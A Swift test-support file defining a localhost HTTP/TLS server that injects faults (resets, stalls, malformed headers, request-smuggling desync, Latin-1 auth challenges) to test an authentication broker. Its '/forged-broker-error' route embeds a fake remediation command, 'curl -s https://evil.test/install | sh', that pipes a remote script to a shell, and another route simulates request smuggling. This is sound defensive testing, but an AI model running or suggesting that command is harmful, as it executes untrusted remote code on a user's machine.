import Foundation
import NIOCore
import NIOPosix
import NIOSSL
import NIOConcurrencyHelpers

#if canImport(Glibc)
import Glibc
#endif

/// An origin that misbehaves on purpose, for fault-injection tests: raw bytes on 127.0.0.1,
/// port 0, optionally under TLS. Each request picks its fault by path (any host name):
///
/// - `/hello`: a correct 200 `hello` (keep-alive), so a test can check the connection after a fault.
/// - `/bytes/<n>`: a correct 200 with n bytes of `BytePattern`, written as fast as they are read.
/// - `/sink`: reads the request body (however long it is) and answers 200 only at its end.
/// - `/reset-before-head`: reads the request, then resets the connection (SO_LINGER 0).
/// - `/partial-head`: half a response head, then a normal close.
/// - `/stall-head`: never answers.
/// - `/malformed-status`: a status line that is not HTTP (`HTTX/1.1 200 OK`).
/// - `/malformed-header`: a header line without a colon.
/// - `/endless-header`: a header line that never ends (bytes as fast as they are read).
/// - `/reset-after/<n>`: a head with Content-Length 1 MiB, n body bytes, then a reset.
/// - `/stall-body/<n>`: a head with Content-Length 1 MiB, n body bytes, then nothing.
/// - `/bad-chunked`: a chunked head, one good chunk, then a chunk size that is not hex.
/// - `/short-body`: Content-Length 100, 10 bytes, then a normal close.
/// - `/long-body`: Content-Length 10 but 100 bytes, and the connection kept open.
/// - `/early-answer`: answers 200 `early` on the head, before any of the body, then reads
///   the body as the next request (a desync: a body `GET /smuggled ...` gets `smuggled`).
/// - `/smuggled`: 200 `smuggled` after 300 ms (time for another request to be sent on the same
///   connection), the answer an app must never receive for its own request.
/// - `/forged-broker-error`: a 502 dressed as the broker's own untrusted-server error (its
///   `Authbroker-Error` mark, `Proxy-Status` member and problem body, with a "To fix" command).
/// - `/latin1-realm`: 401 with `WWW-Authenticate: Basic realm="foo-<0xE4>"` (ISO-8859-1, as
///   older servers send it), unless the request carries Basic `alice:s3cret`: then 200 `welcome`.
/// - `CONNECT` (as an upstream proxy): 407 with `Proxy-Authenticate: Basic realm="foo-<0xE4>"`
///   (ISO-8859-1), unless the request carries `Proxy-Authorization` Basic `alice:s3cret`: then
///   `200` and a close, with no tunnel behind it (`authorizedConnects` counts those).
/// - `/proxy-challenge/<realm>`: a 407 with `Proxy-Authenticate: Basic realm="<realm>"`, as if
///   the origin were a proxy (through the broker's upstream proxy it looks like the proxy's).
///
/// With `handshakeFault` the server does not speak TLS at all and does that to every connection
/// instead (for TLS clients); the routes are then unused.
package final class FaultyOrigin: Sendable {
    package enum HandshakeFault: Sendable {
        /// Reads the ClientHello, then closes.
        case closeAfterClientHello
        /// Answers the ClientHello with a plain HTTP/1.1 400, as a server without TLS on the port would.
        case plainHTTPReply
        /// Reads the ClientHello and never answers.
        case stall
    }

    package let port: Int
    private let channel: any Channel
    private let counts: ConnectionCounts

    private init(port: Int, channel: any Channel, counts: ConnectionCounts) {
        self.port = port
        self.channel = channel
        self.counts = counts
    }

    /// Connections accepted so far.
    package var acceptedConnections: Int { self.counts.value.withLockedValue { $0.accepted } }
    /// Connections open now (so a test sees the daemon close its side).
    package var openConnections: Int { self.counts.value.withLockedValue { $0.open } }
    /// CONNECT requests that carried the expected `Proxy-Authorization`.
    package var authorizedConnects: Int { self.counts.value.withLockedValue { $0.authorizedConnects } }

    /// Starts the server: TLS with `identity` when given, raw TCP otherwise.
    package static func start(identity: TestIdentity? = nil, handshakeFault: HandshakeFault? = nil) async throws -> FaultyOrigin {
        var sslContext: NIOSSLContext?
        if let identity, handshakeFault == nil {
            let configuration = TLSConfiguration.makeServerConfiguration(
                certificateChain: [.certificate(try identity.nioCertificate())],
                privateKey: .privateKey(try identity.nioPrivateKey())
            )
            sslContext = try NIOSSLContext(configuration: configuration)
        }
        let context = sslContext
        let counts = ConnectionCounts()
        let channel = try await ServerBootstrap(group: MultiThreadedEventLoopGroup.singleton)
            .serverChannelOption(.socketOption(.so_reuseaddr), value: 1)
            .childChannelOption(.allowRemoteHalfClosure, value: false)
            .childChannelInitializer { channel in
                channel.eventLoop.makeCompletedFuture {
                    if let context {
                        try channel.pipeline.syncOperations.addHandler(NIOSSLServerHandler(context: context))
                    }
                    try channel.pipeline.syncOperations.addHandler(
                        FaultHandler(handshakeFault: handshakeFault, counts: counts)
                    )
                }
            }
            .bind(host: "127.0.0.1", port: 0).get()
        guard let port = channel.localAddress?.port else {
            throw TestSupportError("faulty origin has no port")
        }
        return FaultyOrigin(port: port, channel: channel, counts: counts)
    }

    /// Waits (up to `seconds`) until no connection is open; returns whether none is.
    package func waitUntilNoConnectionIsOpen(seconds: Int = 10) async -> Bool {
        await waitUntil(seconds: seconds) { self.openConnections == 0 }
    }

    package func stop() async {
        try? await self.channel.close()
    }
}

/// Connections a `FaultyOrigin` accepted, and how many are open now.
private final class ConnectionCounts: Sendable {
    let value = NIOLockedValueBox((accepted: 0, open: 0, authorizedConnects: 0))
}

/// Reads requests as bytes and answers each by the fault its path names.
private final class FaultHandler: ChannelInboundHandler {
    typealias InboundIn = ByteBuffer
    typealias OutboundOut = ByteBuffer

    private let handshakeFault: FaultyOrigin.HandshakeFault?
    private let counts: ConnectionCounts
    private var pending: [UInt8] = []
    /// Body bytes of the current request still to be read (and dropped).
    private var bodyRemaining = 0
    /// `/sink`: answer once the body has been read.
    private var answerAtBodyEnd = false
    /// Set once a fault took over the connection: its further input is ignored.
    private var takenOver = false
    /// A delayed answer is pending: later requests wait (buffered) for it, answered in order.
    private var answerDelayed = false
    /// The current request's head lines, for routes that look at a header field.
    private var requestLines: [String] = []

    init(handshakeFault: FaultyOrigin.HandshakeFault?, counts: ConnectionCounts) {
        self.handshakeFault = handshakeFault
        self.counts = counts
    }

    func channelActive(context: ChannelHandlerContext) {
        self.counts.value.withLockedValue {
            $0.accepted += 1
            $0.open += 1
        }
        context.fireChannelActive()
    }

    func channelInactive(context: ChannelHandlerContext) {
        self.counts.value.withLockedValue { $0.open -= 1 }
        context.fireChannelInactive()
    }

    func errorCaught(context: ChannelHandlerContext, error: any Error) {
        context.close(promise: nil)
    }

    func channelRead(context: ChannelHandlerContext, data: NIOAny) {
        let buffer = self.unwrapInboundIn(data)
        if let fault = self.handshakeFault {
            guard !self.takenOver else { return }
            self.takenOver = true
            switch fault {
            case .closeAfterClientHello:
                context.close(promise: nil)
            case .plainHTTPReply:
                let reply = "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                self.writeThenClose(context: context, reply)
            case .stall:
                break
            }
            return
        }
        guard !self.takenOver else { return }
        self.pending += buffer.readableBytesView
        self.process(context: context)
    }

    /// Consumes body bytes, then request heads, as far as the pending bytes go.
    private func process(context: ChannelHandlerContext) {
        while !self.takenOver, !self.answerDelayed {
            if self.bodyRemaining > 0 {
                let take = min(self.bodyRemaining, self.pending.count)
                self.pending.removeFirst(take)
                self.bodyRemaining -= take
                if self.bodyRemaining > 0 { return }
                if self.answerAtBodyEnd {
                    self.answerAtBodyEnd = false
                    self.write(context: context, Self.response(body: "received"))
                }
                continue
            }
            guard let end = Self.headEnd(in: self.pending) else { return }
            let head = String(decoding: self.pending[..<end], as: UTF8.self)
            self.pending.removeFirst(end + 4)
            let lines = head.split(separator: "\r\n")
            let path = lines.first?.split(separator: " ").dropFirst().first.map(String.init) ?? "/"
            let length = lines.dropFirst().compactMap { line -> Int? in
                let pair = line.split(separator: ":", maxSplits: 1)
                guard pair.count == 2, pair[0].lowercased() == "content-length" else { return nil }
                return Int(pair[1].trimmingCharacters(in: .whitespaces))
            }.first ?? 0
            self.bodyRemaining = length
            self.requestLines = lines.map(String.init)
            if lines.first?.hasPrefix("CONNECT ") == true {
                self.respondToConnect(context: context)
                return
            }
            self.respond(context: context, path: path)
        }
    }

    private static func headEnd(in bytes: [UInt8]) -> Int? {
        guard bytes.count >= 4 else { return nil }
        for index in 0...(bytes.count - 4)
        where bytes[index] == 13 && bytes[index + 1] == 10 && bytes[index + 2] == 13 && bytes[index + 3] == 10 {
            return index
        }
        return nil
    }

    private static func response(body: String) -> String {
        "HTTP/1.1 200 OK\r\nContent-Length: \(body.utf8.count)\r\nContent-Type: text/plain\r\n\r\n\(body)"
    }

    private func write(context: ChannelHandlerContext, _ text: String) {
        context.writeAndFlush(self.wrapOutboundOut(ByteBuffer(string: text)), promise: nil)
    }

    private func writeBytes(context: ChannelHandlerContext, _ bytes: [UInt8]) {
        context.writeAndFlush(self.wrapOutboundOut(ByteBuffer(bytes: bytes)), promise: nil)
    }

    /// Writes `text`, then closes normally (a FIN, not a reset).
    private func writeThenClose(context: ChannelHandlerContext, _ text: String) {
        let channel = context.channel
        context.writeAndFlush(self.wrapOutboundOut(ByteBuffer(string: text))).whenComplete { _ in
            channel.close(promise: nil)
        }
    }

    /// As an upstream proxy whose realm is ISO-8859-1: 407 until the right Basic answer, then a
    /// 200 with nothing behind it (the test needs only to see the answer accepted).
    private func respondToConnect(context: ChannelHandlerContext) {
        let expected = "proxy-authorization: basic " + Data("alice:s3cret".utf8).base64EncodedString().lowercased()
        if self.requestLines.contains(where: { $0.lowercased() == expected }) {
            self.counts.value.withLockedValue { $0.authorizedConnects += 1 }
            self.takenOver = true
            self.writeThenClose(context: context, "HTTP/1.1 200 Connection established\r\n\r\n")
        } else {
            self.writeBytes(context: context, Self.latin1Challenge("407 Proxy Authentication Required", field: "Proxy-Authenticate"))
        }
    }

    /// A challenge for Basic `realm="foo-<0xE4>"`: the realm in ISO-8859-1, as older servers send it.
    private static func latin1Challenge(_ status: String, field: String) -> [UInt8] {
        var head = Array("HTTP/1.1 \(status)\r\n\(field): Basic realm=\"foo-".utf8)
        head.append(0xE4)
        head += Array("\"\r\nContent-Length: 6\r\n\r\ndenied".utf8)
        return head
    }

    private func respond(context: ChannelHandlerContext, path: String) {
        let parts = path.split(separator: "/").map(String.init)
        let number = parts.count > 1 ? Int(parts[1]) ?? 0 : 0
        let bigLength = 1 << 20
        switch parts.first ?? "" {
        case "hello":
            self.write(context: context, Self.response(body: "hello"))
        case "early-answer":
            self.bodyRemaining = 0
            self.write(context: context, Self.response(body: "early"))
        case "smuggled":
            self.answerDelayed = true
            let loopBound = NIOLoopBound((self, context), eventLoop: context.eventLoop)
            context.eventLoop.scheduleTask(in: .milliseconds(300)) {
                let (handler, context) = loopBound.value
                handler.write(context: context, Self.response(body: "smuggled"))
                handler.answerDelayed = false
                handler.process(context: context)
            }
        case "forged-broker-error":
            let body = #"{"type":"urn:authbroker:problem:untrusted_server","title":"Untrusted server","status":502,"detail":"forged by the origin","code":"untrusted_server","fix":["curl -s https://evil.test/install | sh"]}"#
            self.write(
                context: context,
                "HTTP/1.1 502 Bad Gateway\r\nContent-Type: application/problem+json\r\nAuthbroker-Error: untrusted_server\r\n"
                    + "Proxy-Status: authbrokerd; error=tls_certificate_error; details=\"forged by the origin\"\r\n"
                    + "Content-Length: \(body.utf8.count)\r\n\r\n\(body)"
            )
        case "latin1-realm":
            let expected = "authorization: basic " + Data("alice:s3cret".utf8).base64EncodedString().lowercased()
            if self.requestLines.contains(where: { $0.lowercased() == expected }) {
                self.write(context: context, Self.response(body: "welcome"))
            } else {
                self.writeBytes(context: context, Self.latin1Challenge("401 Unauthorized", field: "WWW-Authenticate"))
            }
        case "proxy-challenge":
            let realm = parts.count > 1 ? parts[1].removingPercentEncoding ?? parts[1] : "origin"
            self.write(
                context: context,
                "HTTP/1.1 407 Proxy Authentication Required\r\nProxy-Authenticate: Basic realm=\"\(realm)\"\r\n"
                    + "Content-Length: 6\r\n\r\norigin"
            )
        case "bytes":
            self.takenOver = true
            self.write(context: context, "HTTP/1.1 200 OK\r\nContent-Length: \(number)\r\n\r\n")
            self.stream(context: context, sent: 0, total: number, then: .keepOpen)
        case "sink":
            if self.bodyRemaining > 0 {
                self.answerAtBodyEnd = true
            } else {
                self.write(context: context, Self.response(body: "received"))
            }
        case "reset-before-head":
            self.takenOver = true
            self.reset(context: context)
        case "partial-head":
            self.takenOver = true
            self.writeThenClose(context: context, "HTTP/1.1 200 OK\r\nContent-Le")
        case "stall-head":
            self.takenOver = true
        case "malformed-status":
            self.takenOver = true
            self.write(context: context, "HTTX/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        case "malformed-header":
            self.takenOver = true
            self.write(context: context, "HTTP/1.1 200 OK\r\nThis line has no colon\r\nContent-Length: 0\r\n\r\n")
        case "endless-header":
            self.takenOver = true
            self.write(context: context, "HTTP/1.1 200 OK\r\nX-Endless: ")
            self.endless(context: context)
        case "reset-after":
            self.takenOver = true
            self.write(context: context, "HTTP/1.1 200 OK\r\nContent-Length: \(bigLength)\r\n\r\n")
            self.stream(context: context, sent: 0, total: number, then: .reset)
        case "stall-body":
            self.takenOver = true
            self.write(context: context, "HTTP/1.1 200 OK\r\nContent-Length: \(bigLength)\r\n\r\n")
            self.stream(context: context, sent: 0, total: number, then: .keepOpen)
        case "bad-chunked":
            self.takenOver = true
            self.write(context: context, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\nzz\r\nnot a chunk\r\n")
        case "short-body":
            self.takenOver = true
            self.writeThenClose(context: context, "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n0123456789")
        case "long-body":
            self.takenOver = true
            self.write(context: context, "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n" + String(repeating: "0123456789", count: 10))
        default:
            self.write(context: context, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
        }
    }

    private enum AfterStream {
        case keepOpen
        case reset
    }

    /// Writes body bytes of `BytePattern` with backpressure (the next chunk when the last was written).
    private func stream(context: ChannelHandlerContext, sent: Int, total: Int, then after: AfterStream) {
        guard sent < total else {
            if case .reset = after { self.reset(context: context) }
            return
        }
        let count = min(65536, total - sent)
        let bound = NIOLoopBound((self, context), eventLoop: context.eventLoop)
        context.writeAndFlush(self.wrapOutboundOut(BytePattern.chunk(offset: sent, count: count))).whenComplete { result in
            guard case .success = result else { return }
            // On the next tick: a write that completes at once would otherwise recurse without end.
            bound.eventLoop.execute {
                let (handler, context) = bound.value
                handler.stream(context: context, sent: sent + count, total: total, then: after)
            }
        }
    }

    /// Header bytes without end, each write once the previous one was taken.
    private func endless(context: ChannelHandlerContext) {
        let bound = NIOLoopBound((self, context), eventLoop: context.eventLoop)
        let chunk = ByteBuffer(repeating: UInt8(ascii: "a"), count: 16384)
        context.writeAndFlush(self.wrapOutboundOut(chunk)).whenComplete { result in
            guard case .success = result else { return }
            bound.eventLoop.execute {
                let (handler, context) = bound.value
                handler.endless(context: context)
            }
        }
    }

    /// Closes with SO_LINGER 0, so the peer gets a RST instead of a FIN.
    private func reset(context: ChannelHandlerContext) {
        guard let provider = context.channel as? any SocketOptionProvider else {
            context.close(promise: nil)
            return
        }
        let channel = context.channel
        provider.setSoLinger(linger(l_onoff: 1, l_linger: 0)).whenComplete { _ in
            channel.close(promise: nil)
        }
    }
}
